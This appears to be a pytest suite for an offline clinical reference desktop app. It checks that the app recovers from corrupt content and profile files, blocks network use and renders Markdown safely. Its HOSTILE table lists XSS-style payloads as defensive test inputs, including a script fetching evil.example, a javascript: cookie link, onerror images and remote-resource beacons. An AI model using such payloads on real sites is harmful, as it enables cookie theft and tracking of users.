"""Bad input and faults: the app keeps working, says what happened, and loses nothing.

Each test here fails if the handling it covers is removed.
"""

from __future__ import annotations

import shutil
import socket
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path

import pytest
from PySide6.QtCore import QUrl
from PySide6.QtWidgets import QMessageBox, QTextBrowser
from pytestqt.qtbot import QtBot

from db.compiler.build import build
from db.compiler.render import render_markdown
from db.compiler.sources import load_sources
from db.errors import LibraryError
from db.library import Library
from db.schema import SCHEMA_VERSION
from desktop.article_view import ArticleView
from desktop.settings import UserSettings
from tests.desktop_helpers import running, window
from tests.minimal_content import ARTICLE, write_files
from tests.ui import child

# -- content files that cannot be used ---------------------------------------------------------


def _missing(path: Path, _good: Path) -> None:
    pass


def _empty(path: Path, _good: Path) -> None:
    path.touch()


def _truncated(path: Path, good: Path) -> None:
    path.write_bytes(good.read_bytes()[: good.stat().st_size // 3])


def _random_bytes(path: Path, _good: Path) -> None:
    path.write_bytes(bytes((i * 7919) % 256 for i in range(65536)))


def _foreign(path: Path, _good: Path) -> None:
    sqlite3.connect(path).execute("CREATE TABLE patients (name TEXT)").connection.close()


def _newer(path: Path, good: Path) -> None:
    shutil.copy(good, path)
    conn = sqlite3.connect(path)
    conn.execute(f"PRAGMA user_version = {SCHEMA_VERSION + 1}")
    conn.close()


BROKEN_CONTENT: dict[str, tuple[Callable[[Path, Path], None], str]] = {
    "missing": (_missing, "does not exist"),
    "empty": (_empty, "is empty"),
    "truncated": (_truncated, "truncated"),
    "random-bytes": (_random_bytes, "not a SQLite database"),
    "not-clinref": (_foreign, "not ClinRef content"),
    "newer-schema": (_newer, "newer ClinRef"),
}


@pytest.mark.usefixtures("profile")
@pytest.mark.parametrize("case", sorted(BROKEN_CONTENT))
def test_unusable_content_falls_back_to_bundled_and_says_why(
    qtbot: QtBot, built_db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, case: str
) -> None:
    make, reason = BROKEN_CONTENT[case]
    bad = tmp_path / "share" / "clinref.db"
    bad.parent.mkdir()
    make(bad, built_db)
    monkeypatch.setattr("db.library.locate.default_database", lambda: built_db)
    with running(qtbot, bad) as app:
        assert window(app).isVisible()
        assert "pending human review" in child(window(app), QTextBrowser, "articleView").toPlainText()
        notice = window(app).findChild(QMessageBox, "startupNotice")
        assert notice is not None
        assert str(bad) in notice.text() and reason in notice.text() and "bundled content" in notice.text()
        notice.accept()


@pytest.mark.usefixtures("profile")
def test_content_on_a_read_only_folder_opens(qtbot: QtBot, built_db: Path, tmp_path: Path) -> None:
    folder = tmp_path / "media"
    folder.mkdir()
    shutil.copy(built_db, folder / "clinref.db")
    shutil.copy(f"{built_db}.minisig", folder / "clinref.db.minisig")  # the signature travels with the file
    (folder / "clinref.db").chmod(0o444)
    folder.chmod(0o555)
    try:
        with running(qtbot, folder / "clinref.db") as app:
            assert app.notices == []
            assert app.opened.origin == f"{folder / 'clinref.db'} (--db)"  # read through a verified private copy
    finally:
        folder.chmod(0o755)


def test_self_test_names_the_broken_file(built_db: Path, tmp_path: Path) -> None:
    bad = tmp_path / "clinref.db"
    _truncated(bad, built_db)
    out = subprocess.run(
        [sys.executable, "-m", "desktop", "--self-test", "--db", str(bad)], capture_output=True, text=True, timeout=120
    )
    assert out.returncode == 1
    assert str(bad) in out.stderr and "truncated" in out.stderr
    assert "Traceback" not in out.stderr


# -- a broken user profile ----------------------------------------------------------------------


@pytest.mark.usefixtures("profile")
def test_garbage_settings_are_reset_and_bookmarks_kept(qtbot: QtBot, built_db: Path) -> None:
    with running(qtbot, built_db) as app:
        app.userdata.add_bookmark("drug:clonazepam", "clonazepam")
        settings_path = app.settings.path
    settings_path.write_bytes(b"\x00\xff\xfegarbage\x00" * 50)
    with running(qtbot, built_db) as again:
        assert again.dialog is not None  # acceptance was in the broken file: asked again, not assumed
        assert [b.url for b in again.userdata.bookmarks()] == ["drug:clonazepam"]
        notice = window(again).findChild(QMessageBox, "startupNotice")
        assert notice is not None and str(settings_path) in notice.text() and "reset" in notice.text()
        assert "bookmarks and history were not affected" in notice.text()
        kept = list(settings_path.parent.glob("settings.ini.broken-*"))
        assert len(kept) == 1 and kept[0].read_bytes().startswith(b"\x00\xff\xfegarbage")
        notice.accept()


@pytest.mark.usefixtures("profile")
def test_corrupt_bookmarks_are_reset_and_settings_kept(qtbot: QtBot, built_db: Path) -> None:
    with running(qtbot, built_db) as app:
        for _ in range(3):
            window(app).zoom_in()
        store = app.userdata.path
    store.write_bytes(b"this is not a database" * 400)
    for sidecar in ("-wal", "-shm"):
        Path(f"{store}{sidecar}").unlink(missing_ok=True)
    with running(qtbot, built_db) as again:
        assert again.dialog is None  # acceptance kept
        assert again.settings.zoom() == 3  # zoom kept
        notice = window(again).findChild(QMessageBox, "startupNotice")
        assert notice is not None and str(store) in notice.text() and "has been reset" in notice.text()
        window(again).toggle_bookmark()
        assert again.userdata.bookmarks()
        notice.accept()


def test_settings_that_qt_can_read_are_not_reset(tmp_path: Path) -> None:
    path = tmp_path / "settings.ini"
    path.write_text("[disclaimer]\nversion=1\n\n[view]\nzoom=2\n", encoding="utf-8")
    settings = UserSettings(path)
    assert settings.reset_reason is None and settings.zoom() == 2


# -- search text from anywhere ---------------------------------------------------------------------


# The property test over search text lives in tests/test_library.py (test_any_search_text_never_raises).


# -- hostile Markdown in a content source ----------------------------------------------------------

HOSTILE = {
    "script": "<script>fetch('https://evil.example/steal')</script>",
    "javascript-link": "[click](javascript:alert(document.cookie))",
    "remote-image": "![x](https://evil.example/pixel.png)",
    "html-image": '<img src="https://evil.example/p.png" onerror="alert(1)">',
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "style": "<style>body{background:url(https://evil.example/x)}</style>",
    "data-link": "[x](data:text/html;base64,PHNjcmlwdD4=)",
}


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_markdown_fails_the_check_naming_the_line(tmp_path: Path, name: str) -> None:
    root = write_files(tmp_path, {"articles/test-article.md": ARTICLE + "\n" + HOSTILE[name] + "\n"})
    _sources, problems = load_sources(root)
    line = len((ARTICLE + "\n").splitlines()) + 1
    assert any(p.file.endswith("test-article.md") and p.line == line for p in problems), problems


class _Markup(HTMLParser):
    """The tags and attributes an HTML fragment really has (escaped text is not markup)."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.attributes: list[tuple[str, str]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.attributes += [(name, value or "") for name, value in attrs]


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_markdown_renders_inert(name: str) -> None:
    markup = _Markup()
    markup.feed(render_markdown(HOSTILE[name]))
    assert not {"script", "img", "iframe", "style", "link", "object", "embed"} & set(markup.tags)
    for attribute, value in markup.attributes:
        assert not attribute.startswith("on") and attribute not in ("src", "style")
        if attribute == "href":
            assert value.split(":", 1)[0].lower() in (
                "https",
                "http",
                "mailto",
                "drug",
                "class",
                "article",
            ) or value.startswith("#"), value


def test_huge_table_and_deep_lists_build_and_render(qtbot: QtBot, tmp_path: Path) -> None:
    table = "| " + " | ".join(f"h{c}" for c in range(30)) + " |\n|" + "---|" * 30 + "\n"
    table += "".join("| " + " | ".join(f"{r}.{c}" for c in range(30)) + " |\n" for r in range(400))
    nested = "".join("    " * depth + f"- level {depth}\n" for depth in range(60))
    root = write_files(tmp_path, {"articles/test-article.md": ARTICLE + "\n" + table + "\n" + nested})
    out = tmp_path / "clinref.db"
    build(root, out)
    with Library(out) as library:
        article = library.article("test-article")
        assert article is not None and article.html.count("<tr>") >= 400
    view = ArticleView()
    qtbot.addWidget(view)
    view.show_html(article.html)
    assert "399.29" in view.toPlainText() and "level 59" in view.toPlainText()


def test_the_article_view_never_loads_a_remote_resource(qtbot: QtBot) -> None:
    view = ArticleView()
    qtbot.addWidget(view)
    # Markup that would make a plain QTextBrowser ask for remote resources.
    view.show_html('<img src="https://evil.example/x.png"><link rel="stylesheet" href="https://evil.example/s.css">')
    # Empty, never None: a null answer makes Qt fetch the resource itself (see tests/test_isolation.py).
    served = view.document().resource(2, QUrl("https://evil.example/x.png"))
    assert served is not None and served.isNull()
    assert "[image not shown]" in view.toPlainText()


# -- no network, checked on every run ------------------------------------------------------------


@pytest.mark.filterwarnings("ignore:A test tried to use socket.socket")
def test_the_network_guard_is_on() -> None:
    import pytest_socket

    with pytest.raises(pytest_socket.SocketBlockedError):
        socket.socket(socket.AF_INET, socket.SOCK_STREAM).connect(("127.0.0.1", 9))


def test_the_app_loads_no_network_module(built_db: Path, tmp_path: Path) -> None:
    code = (
        "import sys, os; os.environ['QT_QPA_PLATFORM'] = 'offscreen'\n"
        "from desktop.self_test import run_self_test\n"
        "from pathlib import Path\n"
        "import desktop.main_window, desktop.startup\n"
        "status = run_self_test(Path(sys.argv[1]))\n"
        "bad = sorted(m for m in sys.modules if m in ('PySide6.QtNetwork', 'urllib.request', 'http.client',"
        " 'requests', 'ssl'))\n"
        "print(status, bad)\n"
    )
    out = subprocess.run(
        [sys.executable, "-c", code, str(built_db)],
        capture_output=True,
        text=True,
        timeout=120,
        env={
            "PATH": "/usr/bin:/bin",
            "HOME": str(tmp_path),
            "XDG_CONFIG_HOME": str(tmp_path),
            "XDG_DATA_HOME": str(tmp_path),
        },
    )
    assert out.stdout.strip().splitlines()[-1] == "0 []", out.stdout + out.stderr


def test_settings_with_a_byte_order_mark_are_kept(tmp_path: Path) -> None:
    path = tmp_path / "settings.ini"
    path.write_bytes("[disclaimer]\nversion=1\n\n[view]\nzoom=2\n".encode("utf-8-sig"))
    settings = UserSettings(path)
    assert settings.reset_reason is None and settings.zoom() == 2 and settings.accepted_disclaimer_version() == 1


def test_two_resets_keep_both_damaged_copies(tmp_path: Path) -> None:
    path = tmp_path / "settings.ini"
    for junk in (b"\x00first", b"\x00second"):
        path.write_bytes(junk)
        assert UserSettings(path).reset_reason is not None
    kept = sorted(p.read_bytes() for p in tmp_path.glob("settings.ini.broken-*"))
    assert kept == [b"\x00first", b"\x00second"]


def test_a_broken_named_file_is_named_even_when_no_bundled_content_is_built(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A fresh checkout has no build/clinref.db: the error must still name the file that was asked for."""
    from db.library.locate import open_content

    broken = tmp_path / "broken.db"
    broken.write_bytes(b"not a database at all" * 10)
    monkeypatch.setattr("db.library.locate.default_database_path", lambda: tmp_path / "never-built" / "clinref.db")
    with pytest.raises(LibraryError) as raised:
        open_content(broken)
    assert raised.value.path == str(broken)
    assert "never-built" in raised.value.reason and "python -m db build" in raised.value.advice
